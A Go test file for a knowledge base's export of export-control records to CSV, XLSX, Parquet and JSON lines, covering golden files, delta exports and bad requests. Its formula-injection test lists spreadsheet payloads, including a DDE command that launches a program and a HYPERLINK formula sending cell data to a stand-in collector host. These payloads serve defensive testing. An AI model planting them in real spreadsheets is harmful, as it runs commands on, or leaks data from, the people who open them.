package export_test

import (
	"bytes"
	"cmp"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"
	"github.com/xuri/excelize/v2"

	"github.com/lodestone-kb/lodestone/corpus"
	"github.com/lodestone-kb/lodestone/export"
	"github.com/lodestone-kb/lodestone/kb"
	"github.com/lodestone-kb/lodestone/kb/desk"
	"github.com/lodestone-kb/lodestone/kb/lexicon"
	"github.com/lodestone-kb/lodestone/kb/memkb"
)

var update = flag.Bool("update", false, "write the golden files anew")

func now() time.Time { return time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC) }

// formulas are texts that a spreadsheet would run as the content of a cell.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", `=HYPERLINK("https://collector.example/?"&A1,"see")`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", `"=1+1`, `'=1+1`,
	"＝1+1", "＋1", "－1", "＠SUM(1)", "\ufeff=1+1", "text\n=1+1", "text;=1+1", "text\t@SUM(1)",
}

// words is compiled once.
var words = sync.OnceValues(lexicon.New)

// world holds an act whose words are given.
func world(t *testing.T, title string) (*memkb.Store, export.Source) {
	t.Helper()
	title = strings.ToValidUTF8(title, "")
	w := kb.Write{At: now()}
	const text = "自2025年2月1日起，出口镓需要许可。"
	doc := corpus.Document{ID: "d-1", Source: "ministry", URL: "https://ministry.example/1", Kind: corpus.Notice, Title: title, Jurisdiction: "CN", Authority: "MOFCOM", Lang: "zh-Hans", Published: corpus.Day(2025, 1, 9), State: corpus.Live, FirstSeen: now(), LastSeen: now()}
	rev := corpus.Revision{Document: "d-1", Text: text, Hash: corpus.HashOf([]byte(text)), RecordedAt: now(), Parser: "test/1"}
	rev.ID = corpus.NewRevisionID("d-1", rev.Hash)
	doc.Revisions = []corpus.RevisionID{rev.ID}
	at := strings.Index(text, "镓")
	span := corpus.Span{Document: "d-1", Revision: rev.ID, Start: at, End: at + len("镓"), Quote: "镓", Address: "¶ 1"}
	w.Documents, w.Revisions = []corpus.Document{doc}, []corpus.Revision{rev}
	w.Facts = []kb.Fact{{ID: "f-1", Value: kb.MaterialValue{Material: "Ga"}, AsPrinted: "镓", Role: kb.RoleRestricted, Assertion: kb.Asserted, Span: span, Context: corpus.Range{Start: 0, End: len(text)}, Rule: "material/1", Confidence: .9, Review: kb.Unreviewed, Instrument: "cn-mofcom-2025-1", Source: "ministry", Language: "zh-Hans", Current: true, FirstSeen: now(), LastSeen: now()}}
	basis := kb.Basis{Spans: []corpus.Span{span}}
	w.Instruments = []kb.Instrument{{ID: "cn-mofcom-2025-1", Jurisdiction: "CN", Authorities: []string{"MOFCOM"}, Number: "2025年第1号", Kind: "announcement", Title: title, TitleZh: "关于镓的公告", Published: corpus.Day(2025, 1, 9), Documents: []corpus.DocumentID{"d-1"}, Basis: basis, Review: kb.Confirmed}}
	w.Measures = []kb.Measure{{ID: "cn-mofcom-2025-1/1", Instrument: "cn-mofcom-2025-1", Provision: "1", Restriction: kb.LicenceRequirement, Direction: kb.Export, Items: []kb.Item{{Material: "Ga", ControlCodes: []string{"3C004"}, CustomsCodes: []string{"0112929010"}}},
		Destinations: []string{"US", "EU"}, EndUses: []kb.EndUse{}, EndUsers: []string{title}, Thresholds: []kb.Threshold{{Words: "at least 99.9 %"}}, Summary: title, Basis: basis, Review: kb.Confirmed}}
	w.Effects = []kb.Effect{{ID: "e-1", Relation: kb.Adopts, By: "cn-mofcom-2025-1", Target: "cn-mofcom-2025-1", From: corpus.Day(2025, 1, 9), Basis: basis, Review: kb.Confirmed}, {ID: "e-2", Relation: kb.Commences, By: "cn-mofcom-2025-1", Target: "cn-mofcom-2025-1", From: corpus.Day(2025, 2, 1), Basis: basis, Review: kb.Confirmed}}
	w.Disputes = []kb.Dispute{{ID: "x-1", Instrument: "cn-mofcom-2025-1", About: "effective_date", Claims: []kb.Claim{{Says: title, Basis: basis}, {Says: "another day", Basis: basis}}}}
	w.Entries = []kb.Entry{{Kind: kb.DocumentAdded, Document: "d-1", Revision: rev.ID, Summary: "added"}, {Kind: kb.InstrumentRecorded, Instrument: "cn-mofcom-2025-1", Summary: "recorded"}}
	store := memkb.New()
	if _, err := store.Commit(t.Context(), w); err != nil {
		t.Fatal(err)
	}
	names, err := words()
	if err != nil {
		t.Fatal(err)
	}
	return store, export.Source{Desk: desk.New(store, names, now)}
}

func write(t *testing.T, s export.Source, r export.Request) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := s.Write(t.Context(), &b, r); err != nil {
		t.Fatalf("%+v: %v", r, err)
	}
	return b.Bytes()
}

// The formats that people can read, of every dataset.
func TestGolden(t *testing.T) {
	_, s := world(t, "Gallium needs a licence")
	for _, f := range export.Formats() {
		var requests []export.Request
		switch f.Name {
		case "xlsx", "parquet", "warc":
			continue
		case "jsonl", "csv":
			for _, set := range export.Sets() {
				requests = append(requests, export.Request{What: set.Name, Format: f.Name})
			}
		default:
			requests = []export.Request{{Format: f.Name}}
		}
		for _, r := range requests {
			got := write(t, s, r)
			file := filepath.Join("testdata", cmp.Or(r.What, "all")+f.Ending)
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(file, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if want, err := os.ReadFile(file); err != nil || !bytes.Equal(want, got) {
				t.Errorf("%s differs (%v); look at the difference after go test ./export -update", file, err)
			}
		}
	}
}

// The three printers of a table say the same.
func TestTablesAgree(t *testing.T) {
	_, s := world(t, "Gallium, \"quoted\"\nand two lines")
	for _, set := range export.Sets() {
		lines, err := csv.NewReader(bytes.NewReader(write(t, s, export.Request{What: set.Name, Format: "csv"}))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		book, err := excelize.OpenReader(bytes.NewReader(write(t, s, export.Request{What: set.Name, Format: "xlsx"})))
		if err != nil {
			t.Fatal(err)
		}
		sheet, err := book.GetRows(set.Name)
		if err != nil || len(sheet) != len(lines) {
			t.Fatalf("%s: %d lines in CSV, %d in the workbook: %v", set.Name, len(lines), len(sheet), err)
		}
		for i := range sheet {
			for j := range sheet[i] {
				if a, b := sheet[i][j], lines[i][j]; a != b && !strings.EqualFold(a, b) { // TRUE is a cell's true
					t.Errorf("%s row %d column %d: %q and %q", set.Name, i, j, a, b)
				}
			}
		}
		dictionary, err := book.GetRows("dictionary")
		if err != nil || len(dictionary) != len(set.Columns())+1 {
			t.Errorf("%s: the dictionary has %d rows: %v", set.Name, len(dictionary), err)
		}
		raw := write(t, s, export.Request{What: set.Name, Format: "parquet"})
		file, err := parquet.OpenFile(bytes.NewReader(raw), int64(len(raw)))
		if err != nil || int(file.NumRows()) != len(lines)-1 {
			t.Fatalf("%s: %v, %d rows in Parquet, %d in CSV", set.Name, err, file.NumRows(), len(lines)-1)
		}
		for _, c := range set.Columns() {
			if _, ok := file.Schema().Lookup(c.Name); !ok && c.Type != "list of strings" || c.About == "" {
				t.Errorf("%s: column %s is not in Parquet, or nobody says what it is", set.Name, c.Name)
			}
		}
	}
}

// No text becomes a formula, in a cell of its own or where a program cuts cells otherwise.
func TestCellsAreNoFormulas(t *testing.T) {
	if len(formulas) != 20 {
		t.Fatalf("%d formulas", len(formulas))
	}
	for _, f := range formulas {
		_, s := world(t, f)
		for _, what := range []string{"instruments", "measures", "documents", "changes", "disputes"} {
			raw := write(t, s, export.Request{What: what, Format: "csv"})
			lines, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, line := range lines[1:] {
				for _, cell := range line {
					for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";\t\n\r", r) }) {
						if bare := strings.TrimLeft(part, " \"\u00a0\ufeff\u3000"); strings.IndexAny(bare, "=+-@＝＋－＠") == 0 {
							t.Errorf("%s: %q in the cell %q begins a formula", what, part, cell)
						}
					}
				}
			}
			book, err := excelize.OpenReader(bytes.NewReader(write(t, s, export.Request{What: what, Format: "xlsx"})))
			if err != nil {
				t.Fatal(err)
			}
			for _, col := range "ABCDEFGHIJKLMNOPQRST" {
				if got, err := book.GetCellFormula(what, string(col)+"2"); err != nil || got != "" {
					t.Errorf("%s, column %c: a formula %q, %v", what, col, got, err)
				}
			}
		}
	}
}

// idAlone checks that what was deleted is told by its id and by nothing else: a 0 would be a value.
func idAlone(t *testing.T, table string) {
	t.Helper()
	for line := range strings.SplitSeq(table, "\r\n") {
		if rest, gone := strings.CutPrefix(line, "deleted,"); gone && strings.Contains(strings.TrimRight(rest, ","), ",") {
			t.Errorf("a row that was deleted says more than its id: %s", line)
		}
	}
}

// nothingOfTheDeleted checks the same of a Parquet file: its numbers and truths are null, those of other
// rows are not.
func nothingOfTheDeleted(t *testing.T, raw []byte) {
	t.Helper()
	file, err := parquet.OpenFile(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	columns, r := file.Schema().Columns(), parquet.NewReader(file)
	for range file.NumRows() {
		row := map[string]any{}
		if err := r.Read(&row); err != nil {
			t.Fatal(err)
		}
		for _, path := range columns {
			leaf, _ := file.Schema().Lookup(path...)
			if len(path) > 1 || !leaf.Node.Optional() {
				continue
			}
			if (row[path[0]] == nil) != (row["change"] == string(export.Deleted)) {
				t.Errorf("%s of a row that is %v: %v", path[0], row["change"], row[path[0]])
			}
		}
	}
}

// The differences since a version, applied to the export of that version, give the export of now.
func TestDeltas(t *testing.T) {
	store, s := world(t, "Gallium needs a licence")
	before, err := store.Version(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	seq := string(mustJSON(t, before.Seq))
	for _, set := range export.Sets() {
		if got := write(t, s, export.Request{What: set.Name, Format: "jsonl", Since: seq}); len(got) != 0 {
			t.Errorf("%s: differences though nothing was learned: %s", set.Name, got)
		}
	}
	then := map[string]map[string]string{}
	for _, set := range []string{"instruments", "measures", "effects", "disputes"} {
		then[set] = rows(t, write(t, s, export.Request{What: set, Format: "jsonl"}))
	}
	law, err := store.Law(t.Context(), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	w := kb.Write{At: now().Add(time.Hour), Instruments: law.Instruments, Effects: law.Effects[:1], Disputes: law.Disputes}
	w.Instruments[0].Title = "Gallium needs a licence no more"
	w.Effects[0].Removed, w.Disputes[0].Removed = true, true
	second := law.Instruments[0]
	second.ID, second.Documents = "cn-mofcom-2026-2", nil
	w.Instruments = append(w.Instruments, second)
	w.Entries = []kb.Entry{{Kind: kb.InstrumentRecorded, Instrument: "cn-mofcom-2025-1", Summary: "again"}, {Kind: kb.DisputeSettled, Dispute: "x-1", Summary: "settled"}}
	if _, err := store.Commit(t.Context(), w); err != nil {
		t.Fatal(err)
	}
	for set, held := range then {
		for _, line := range bytes.Split(bytes.TrimSpace(write(t, s, export.Request{What: set, Format: "jsonl", Since: seq})), []byte("\n")) {
			var d struct {
				Change export.Change `json:"_change"`
				ID     string
			}
			if len(line) == 0 {
				continue
			}
			if err := json.Unmarshal(line, &d); err != nil {
				t.Fatal(err)
			}
			_, known := held[d.ID]
			switch d.Change {
			case export.Deleted:
				if !known {
					t.Errorf("%s: %s was deleted and was not there", set, d.ID)
				}
				delete(held, d.ID)
			case export.Added, export.Modified:
				if known != (d.Change == export.Modified) {
					t.Errorf("%s: %s is told as %s", set, d.ID, d.Change)
				}
				for id, row := range rows(t, line) {
					held[id] = row
				}
			default:
				t.Errorf("%s: %s is told as %q", set, d.ID, d.Change)
			}
		}
		idAlone(t, string(write(t, s, export.Request{What: set, Format: "csv", Since: seq})))
		nothingOfTheDeleted(t, write(t, s, export.Request{What: set, Format: "parquet", Since: seq}))
		if got := rows(t, write(t, s, export.Request{What: set, Format: "jsonl"})); !same(got, held) {
			t.Errorf("%s: the differences give %v, want %v", set, held, got)
		}
	}
}

// rows reads JSON lines by id, without the change.
func rows(t *testing.T, b []byte) map[string]string {
	t.Helper()
	out := map[string]string{}
	for line := range bytes.Lines(b) {
		var row map[string]any
		if err := json.Unmarshal(line, &row); err != nil {
			t.Fatal(err)
		}
		delete(row, "_change")
		out[row["id"].(string)] = string(mustJSON(t, row))
	}
	return out
}

func same(a, b map[string]string) bool {
	for id, row := range a {
		if b[id] != row {
			return false
		}
	}
	return len(a) == len(b)
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestRequestsThatMeanNothing(t *testing.T) {
	_, s := world(t, "x")
	for _, r := range []export.Request{{}, {What: "facts"}, {Format: "docx", What: "facts"}, {Format: "csv"}, {Format: "csv", What: "rumours"}, {Format: "ics", What: "facts"}, {Format: "csv", What: "facts", Since: "yesterday"}, {Format: "csv", What: "facts", Since: "99"}, {Format: "warc"}} {
		var b bytes.Buffer
		var word *desk.WordError
		if err := s.Write(t.Context(), &b, r); !errors.As(err, &word) || b.Len() > 0 {
			t.Errorf("%+v: %v, and %d bytes", r, err, b.Len())
		}
	}
}
